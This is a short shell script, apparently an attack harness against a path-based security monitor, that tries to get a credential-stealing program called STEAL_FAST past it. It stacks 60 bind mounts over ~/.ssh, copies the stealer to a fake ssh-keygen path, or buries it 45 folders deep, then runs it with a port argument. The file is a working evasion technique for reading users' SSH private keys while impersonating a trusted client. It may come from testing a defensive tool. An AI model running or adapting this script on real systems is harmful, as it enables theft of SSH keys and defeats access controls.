#!/bin/sh
# Stacked bind mounts against the name resolver (root): in a private mount namespace,
#   name  bind $HOME/.ssh onto SCRATCH/home/.ssh, then that onto itself 60 times, and run
#         STEAL_FAST with HOME=SCRATCH/home (the key's name is walked across 61 mounts);
#   exe   copy STEAL_FAST to SCRATCH/usr/bin/ssh-keygen (an allowed SSH client's path), bind
#         SCRATCH onto itself 60 times and run it (the executable's name is walked likewise);
#   deep  copy STEAL_FAST 45 folders deep below SCRATCH and run it (no mounts, no root).
# Usage: stacked_mounts.sh MODE SCRATCH STEAL_FAST PORT
set -e
mode=$1 scratch=$2 steal=$3 port=$4
case "$mode" in
name)
    mkdir -p "$scratch/home/.ssh"
    exec unshare -m --propagation private sh -c '
        mount --bind "$HOME/.ssh" "$1/home/.ssh"
        for i in $(seq 60); do mount --bind "$1/home/.ssh" "$1/home/.ssh"; done
        HOME="$1/home" exec "$2" "$3" plain' stacked "$scratch" "$steal" "$port" ;;
exe)
    mkdir -p "$scratch/usr/bin"
    cp "$steal" "$scratch/usr/bin/ssh-keygen"
    exec unshare -m --propagation private sh -c '
        for i in $(seq 60); do mount --bind "$1" "$1"; done
        exec "$1/usr/bin/ssh-keygen" "$2" plain' stacked "$scratch" "$port" ;;
deep)
    folder=$scratch
    for i in $(seq 45); do folder=$folder/d; done
    mkdir -p "$folder"
    cp "$steal" "$folder/steal_fast"
    exec "$folder/steal_fast" "$port" plain ;;
esac
echo "stacked_mounts.sh: unknown mode $mode" >&2
exit 2
